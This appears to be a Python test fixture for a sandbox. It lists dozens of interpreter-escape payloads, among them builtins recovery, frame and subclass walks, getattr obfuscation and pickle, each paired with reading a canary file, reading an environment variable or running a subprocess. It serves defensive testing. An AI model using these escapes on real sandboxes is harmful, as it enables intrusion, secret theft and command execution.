"""Escapes that work in plain Python: each way out of the interpreter, with each of three things that an intruder wants.

A way out sets `imp` to Python's own import. Then a goal sets `got`: to the canary in the file `there`, or in
the environment. A payload that leaves the canary in `got` has come through; without any wall, all of them do.
"""

from __future__ import annotations

# The classes of ways out, and the ways of each.
WAYS: dict[str, dict[str, str]] = {
    "import": {
        "statement": "import builtins\nimp = builtins.__import__",
        "from": "from builtins import __import__ as imp",
        "as": "import importlib as tools\nimp = tools.import_module",
        "from of a package": "from importlib import import_module as imp",
        "star": "from importlib import *\nimp = import_module",
        "function": "imp = __import__",
        "function by its home": "imp = __import__('builtins').__import__",
        "loader": "imp = __import__('importlib').import_module",
        "in full width": "imp = \uff45val('__import__')",
    },
    "builtins": {
        "of a lambda": "imp = (lambda: 0).__builtins__['__import__']",
        "by globals()": "b = globals()['__builtins__']\nimp = b['__import__'] if type(b) is dict else b.__import__",
        "by vars()": "b = vars()['__builtins__']\nimp = b['__import__'] if type(b) is dict else b.__import__",
        "by locals()": "b = locals()['__builtins__']\nimp = b['__import__'] if type(b) is dict else b.__import__",
        "of a function": "b = (lambda: 0).__globals__['__builtins__']\n"
        "imp = b['__import__'] if type(b) is dict else b.__import__",
        "self of a builtin": "imp = len.__self__.__import__",
        "self of print": "imp = print.__self__.__dict__['__import__']",
    },
    "eval": {
        "eval": "imp = eval('__import__')",
        "exec": "exec('imp = __import__')",
        "compile": "imp = eval(compile('__import__', 'x', 'eval'))",
        "eval in map": "imp = list(map(eval, ['__import__']))[0]",
        "eval as a key": "imp = max(['__import__', ''], key=lambda t: len(t)) and eval('__import__')",
        "eval of joined text": "imp = eval('__imp' + 'ort__')",
    },
    "getattr": {
        "joined": "imp = getattr(len, '__se' + 'lf__').__import__",
        "twice": "imp = getattr(getattr(len, '__self__'), '__import__')",
        "reduce": "import functools\nimp = functools.reduce(getattr, ['__self__', '__import__'], len)",
        "attrgetter": "import operator\nimp = operator.attrgetter('__self__.__import__')(len)",
        "methodcaller": "import operator\nimp = operator.methodcaller('__getattribute__', '__import__')(len.__self__)",
        "object": "imp = object.__getattribute__(len.__self__, '__import__')",
        "vars": "imp = vars(len.__self__)['__import__']",
    },
    "subclasses": {
        "of object": "k = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]\n"
        "imp = k.__init__.__builtins__['__import__']",
        "by mro": "k = [c for c in ''.__class__.__mro__[-1].__subclasses__() if c.__name__ == '_wrap_close'][0]\n"
        "imp = k.__init__.__globals__['__builtins__']['__import__']",
        "by mro()": "k = [c for c in int.mro()[-1].__subclasses__() if c.__name__ == '_wrap_close'][0]\n"
        "imp = k.__init__.__builtins__['__import__']",
        "by bases": "k = [c for c in [].__class__.__bases__[0].__subclasses__() if c.__name__ == '_wrap_close'][0]\n"
        "imp = k.__init__.__builtins__['__import__']",
        "by type": "k = [c for c in type.__subclasses__(type(1).__base__) if c.__name__ == '_wrap_close'][0]\n"
        "imp = k.__init__.__builtins__['__import__']",
        "of a context manager": "k = ().__class__.__base__.__subclasses__()\n"
        "k = [c for c in k if c.__name__ == 'catch_warnings'][0]\nimp = k()._module.__builtins__['__import__']",
    },
    "frames": {
        "of a generator": "imp = (x for x in [1]).gi_frame.f_builtins['__import__']",
        "globals of one": "b = (x for x in [1]).gi_frame.f_globals['__builtins__']\n"
        "imp = b['__import__'] if type(b) is dict else b.__import__",
        "of a traceback": "try:\n  1 / 0\nexcept ZeroDivisionError as e:\n"
        "  imp = e.__traceback__.tb_frame.f_builtins['__import__']",
        "of a name error": "try:\n  [].nothing\nexcept AttributeError as e:\n"
        "  imp = e.__traceback__.tb_frame.f_builtins['__import__']",
        "of a context": "try:\n  try:\n    1 / 0\n  except ZeroDivisionError:\n    [][1]\nexcept IndexError as e:\n"
        "  imp = e.__context__.__traceback__.tb_frame.f_builtins['__import__']",
        "of the caller": "import sys\nimp = sys._getframe().f_builtins['__import__']",
    },
    "modules": {
        "json": "import json\nimp = json.codecs.builtins.__import__",
        "random": "import random\nimp = random._os.sys.modules['builtins'].__import__",
        "datetime": "import datetime\nimp = datetime.sys.modules['builtins'].__import__",
        "re": "import re\nimp = re.enum.sys.modules['builtins'].__import__",
        "decimal": "import decimal\nimp = decimal.Decimal.__init_subclass__.__self__ and __import__",
        "string": "import string\nimp = string._re.enum.sys.modules['builtins'].__import__",
        "pickle": "import pickle\nimp = pickle.loads(b'cbuiltins\\n__import__\\n.')",
    },
    "hooks": {
        "class": "class A:\n  i = __import__\nimp = A.i",
        "class item": "class A:\n  __class_getitem__ = __import__\nimp = lambda name: A[name]",
        "metaclass": "class M(type):\n  def __getattr__(c, n): return __import__(n)\nclass A(metaclass=M): pass\n"
        "imp = lambda name: getattr(A, name)",
        "type of three": "imp = type('A', (), {'i': staticmethod(__import__)}).i",
        "decorator": "@eval\n@(lambda f: '__import__')\ndef imp(): pass",
        "lambda default": "imp = (lambda x=__import__: x)()",
        "match": "match len:\n  case object(__self__=b):\n    imp = b.__import__",
        "walrus": "(imp := __import__)",
        "comprehension": "imp = [i for i in [__import__]][0]",
        "global": "def f():\n  global imp\n  imp = __import__\nf()",
    },
}
GOALS = {
    "read a file": "got = imp('pathlib').Path(there).read_text()",
    "read the environment": "got = imp('os').environ['CANARY']",
    "run a program": "got = imp('subprocess').run(['cat', there], capture_output=True, text=True).stdout",
}
PAYLOADS = {
    f"{kind}, {way}: {goal}": f"{code}\n{GOALS[goal]}"
    for kind, ways in WAYS.items()
    for way, code in ways.items()
    for goal in GOALS
}
